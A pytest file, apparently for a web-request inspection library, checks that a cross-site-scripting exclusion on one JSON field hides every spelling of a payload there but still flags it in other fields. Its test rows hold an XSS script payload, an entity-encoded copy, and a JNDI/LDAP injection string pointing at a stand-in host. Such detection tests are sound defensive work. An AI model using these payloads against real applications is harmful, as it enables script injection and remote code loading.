"""What an exclusion allows is allowed in each of its spellings, and hides no other attack."""

from __future__ import annotations

import json
from typing import Any

import pytest

from hauberk._native import Inspector

SCRIPT = "<script>alert(1)</script>"
ENTITIES = "".join(f"&#{ord(one)};" for one in SCRIPT)
POLICY = {
    "hauberk": 1,
    "function": "f",
    "mode": "prevent",
    "exclusions": [
        {
            "name": "editor",
            "detector": "cross-site-scripting",
            "path": "body→$.html",
            "patterns": ["**"],
        }
    ],
}
ROWS: list[tuple[dict[str, Any], list[str]]] = [
    # the body                                      paths that are told
    ({"html": SCRIPT}, []),
    ({"html": ENTITIES}, []),
    ({"html": f"  {SCRIPT} "}, []),
    ({"html": SCRIPT, "title": "blue shoes"}, []),
    ({"html": SCRIPT, "title": SCRIPT}, ["body→$.title"]),
    ({"title": SCRIPT, "html": SCRIPT}, ["body→$.title"]),
    ({"html": SCRIPT, "title": ENTITIES}, ["body→$.title→html"]),
    ({"html": json.dumps({"inner": SCRIPT})}, ["body→$.html→$.inner"]),
    ({"html": "${jndi:ldap://evil.example/a}"}, ["body→$.html"]),
]


@pytest.mark.parametrize(("body", "paths"), ROWS)
def test_an_exclusion_is_for_one_input_and_each_spelling_of_it(body, paths):
    event = {"body": json.dumps(body)}
    _, detections, _ = Inspector(json.dumps(POLICY).encode()).inspect(json.dumps(event).encode())
    assert [one["path"] for one in detections] == paths
